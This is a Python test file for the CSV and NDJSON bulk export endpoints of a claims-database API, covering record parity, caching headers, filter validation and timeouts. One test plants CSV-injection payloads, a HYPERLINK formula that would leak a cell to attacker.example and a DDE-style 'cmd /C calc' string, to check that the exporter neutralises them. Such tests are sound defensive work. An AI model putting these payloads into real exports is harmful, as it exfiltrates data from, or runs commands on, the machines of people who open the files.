"""Bulk exports: every export is its list, record for record, streamed in batches; CSV a
spreadsheet opens safely; ETag and 304 as for the lists."""

import csv
import io
from typing import Any

import httpx
import orjson
import pytest
from fastapi.testclient import TestClient

from app.config import Settings
from app.exports import stream as export_routes
from app.exports.csv_rows import CsvWriter
from app.main import create_app
from app.models import ClaimPublic
from tests.conftest import SEEDS, bearer
from tests.support import all_items, assert_problem, serving

# (resource, filters) pairs: every resource unfiltered, and the filters people use most
EXPORTS = [
    ("sources", {}),
    ("sources", {"genre": "opinion", "sort": "-published_on"}),
    ("actors", {}),
    ("actors", {"q": "kim", "sort": "name"}),
    ("claims", {}),
    ("claims", {"contested": "true", "sort": "-stance_count"}),
    ("claims", {"actor_id": "china", "q": "china"}),
    ("stances", {}),
    ("stances", {"source_id": "putin-kim-unity-pyongyang", "sort": "position"}),
    ("mentions", {}),
    ("mentions", {"actor_id": "china"}),
]


@pytest.fixture(autouse=True)
def small_batches(monkeypatch: pytest.MonkeyPatch) -> None:
    """Batches of 3 items, so that the seeds' exports take several and cross cursors."""
    monkeypatch.setattr(export_routes, "BATCH", 3)


def ndjson(response: Any) -> list[dict[str, Any]]:
    assert response.content.endswith(b"\n")
    return [orjson.loads(line) for line in response.content.splitlines()]


def csv_rows(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


@pytest.mark.parametrize(("resource", "filters"), EXPORTS)
def test_every_export_is_its_list_record_for_record(
    client: TestClient, resource: str, filters: dict[str, str]
) -> None:
    listed = all_items(client, f"/v1/{resource}", limit=5, **filters)
    assert len(listed) > 3 or filters, "an unfiltered export should take several batches"

    response = client.get(f"/v1/exports/{resource}.ndjson", params=filters)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/x-ndjson"
    assert ndjson(response) == listed

    response = client.get(f"/v1/exports/{resource}.csv", params=filters)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert (
        response.headers["content-disposition"] == f'attachment; filename="claimsdb-{resource}.csv"'
    )
    header, *rows = csv_rows(response)
    writer = CsvWriter(export_routes.REGISTERED[resource].item)
    assert header[0] == "id"
    assert [row[0] for row in rows] == [item["id"] for item in listed]
    assert [header, *rows] == csv_rows_of(writer, listed)


def csv_rows_of(writer: CsvWriter, items: list[dict[str, Any]]) -> list[list[str]]:
    text = (writer.header() + writer.rows(items)).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_columns_document_themselves(client: TestClient) -> None:
    header, *rows = csv_rows(client.get("/v1/exports/stances.csv"))
    assert header[:4] == ["id", "claim_id", "label", "holder_id"]
    assert {"source_id", "start", "end", "quote", "prefix", "suffix"} <= set(header)
    stance = client.get(f"/v1/stances/{rows[0][0]}").json()
    row = dict(zip(header, rows[0], strict=True))
    assert row["quote"] == stance["provenance"]["quote"]
    assert (int(row["start"]), int(row["end"])) == (
        stance["provenance"]["start"],
        stance["provenance"]["end"],
    )
    header, *rows = csv_rows(client.get("/v1/exports/claims.csv", params={"topic": "munitions"}))
    row = dict(zip(header, rows[0], strict=True))
    claim = client.get(f"/v1/claims/{row['id']}").json()
    assert row["topics"].split("|") == claim["topics"]
    assert orjson.loads(row["actors"]) == claim["actors"]


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the source")'


def test_csv_neutralises_cells_a_spreadsheet_would_run(
    client: TestClient, tokens: dict[str, str]
) -> None:
    claim = {
        "id": "formula-claim",
        "text": FORMULA,
        "claim_type": "factual",
        "topics": ["munitions"],
        "actors": [],
    }
    response = client.post("/v1/claims", json=claim, headers=bearer(tokens["curate"]))
    assert response.status_code == 201, response.text
    actor = {"id": "at-sign", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "kind": "group"}
    response = client.post("/v1/actors", json=actor, headers=bearer(tokens["curate"]))
    assert response.status_code == 201, response.text

    header, *rows = csv_rows(client.get("/v1/exports/claims.csv", params={"q": "hyperlink"}))
    (row,) = [dict(zip(header, r, strict=True)) for r in rows]
    assert row["text"] == "'" + FORMULA
    header, *rows = csv_rows(client.get("/v1/exports/actors.csv", params={"q": "sum"}))
    (row,) = [dict(zip(header, r, strict=True)) for r in rows]
    assert row["name"] == "'" + actor["name"]
    # NDJSON is data, not a spreadsheet: it carries the text as written
    (item,) = ndjson(client.get("/v1/exports/claims.ndjson", params={"q": "hyperlink"}))
    assert item["text"] == FORMULA


@pytest.mark.parametrize("text", ["+1 more", "-5 shells", "@home", "\tindented", "\rreturn"])
def test_every_formula_start_is_neutralised(text: str) -> None:
    writer = CsvWriter(ClaimPublic)
    row = next(csv.reader(io.StringIO(writer.rows([{"text": text}]).decode(), newline="")))
    assert row[1] == "'" + text


def test_export_is_utf8(client: TestClient) -> None:
    quotes = [s["provenance"]["quote"] for s in all_items(client, "/v1/stances", limit=500)]
    written = [q for q in quotes if not q.isascii()]
    assert written, "the seeds quote typographic apostrophes"
    header, *rows = csv_rows(client.get("/v1/exports/stances.csv"))
    exported = [row[header.index("quote")] for row in rows]
    assert [q for q in exported if not q.isascii()] == written


def test_export_takes_the_lists_filters_and_nothing_else(client: TestClient) -> None:
    assert_problem(client.get("/v1/exports/claims.csv?colour=red"), 422, field="colour")
    assert_problem(client.get("/v1/exports/claims.csv?limit=10"), 422, field="limit")
    assert_problem(client.get("/v1/exports/claims.csv?cursor=abc"), 422, field="cursor")
    assert_problem(client.get("/v1/exports/claims.csv?label=maybe"), 422, field="label")
    assert_problem(client.get("/v1/exports/claims.csv?q=%22unbalanced"), 422, field="q")
    assert_problem(client.get("/v1/exports/claims.xml"), 422, field="format")
    assert client.get("/v1/exports/votes.csv").status_code == 404


def test_etag_answers_304_until_the_data_changes(
    client: TestClient, tokens: dict[str, str]
) -> None:
    first = client.get("/v1/exports/claims.csv", params={"topic": "munitions"})
    etag = first.headers["etag"]
    assert first.headers["cache-control"] == "public, no-cache"
    again = client.get(
        "/v1/exports/claims.csv", params={"topic": "munitions"}, headers={"If-None-Match": etag}
    )
    assert again.status_code == 304
    assert again.content == b""
    assert again.headers["etag"] == etag
    other = client.get("/v1/exports/claims.ndjson", params={"topic": "munitions"})
    assert other.headers["etag"] != etag

    claim = "nk-russia-alliance-strategic-masterstroke"
    version = client.get(f"/v1/claims/{claim}").headers["etag"]
    response = client.patch(
        f"/v1/claims/{claim}",
        json={"topics": ["munitions"]},
        headers={**bearer(tokens["curate"]), "If-Match": version},
    )
    assert response.status_code == 200, response.text
    changed = client.get(
        "/v1/exports/claims.csv", params={"topic": "munitions"}, headers={"If-None-Match": etag}
    )
    assert changed.status_code == 200
    assert changed.headers["etag"] != etag
    assert claim in changed.text


def test_head_sends_the_headers_of_the_export_without_reading_it(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    etag = client.get("/v1/exports/stances.ndjson").headers["etag"]

    def no_batches(*_args: Any) -> None:
        raise AssertionError("a HEAD read the export's rows")

    monkeypatch.setattr(export_routes, "reading", no_batches)
    head = client.head("/v1/exports/stances.ndjson")
    assert head.status_code == 200
    assert head.content == b""
    assert head.headers["etag"] == etag


def test_an_export_past_its_time_is_cut_off_not_ended(database_url: str) -> None:
    """A client must never take a cut export for a whole one: past its time, the
    connection closes before the body's end, which every HTTP client reports."""
    settings = Settings(database_url=database_url, seeds_dir=SEEDS, export_timeout_ms=1)
    with serving(create_app(settings)) as base, httpx.Client(base_url=base) as http:
        cut = b""
        with (  # noqa: PT012 (the error comes while the body is read)
            pytest.raises(httpx.RemoteProtocolError),
            http.stream("GET", "/v1/exports/stances.ndjson") as response,
        ):
            assert response.status_code == 200
            for chunk in response.iter_bytes():
                cut += chunk
        whole = http.get("/v1/stances", params={"limit": 500}).json()["items"]
    assert 0 < len(cut.splitlines()) < len(whole)
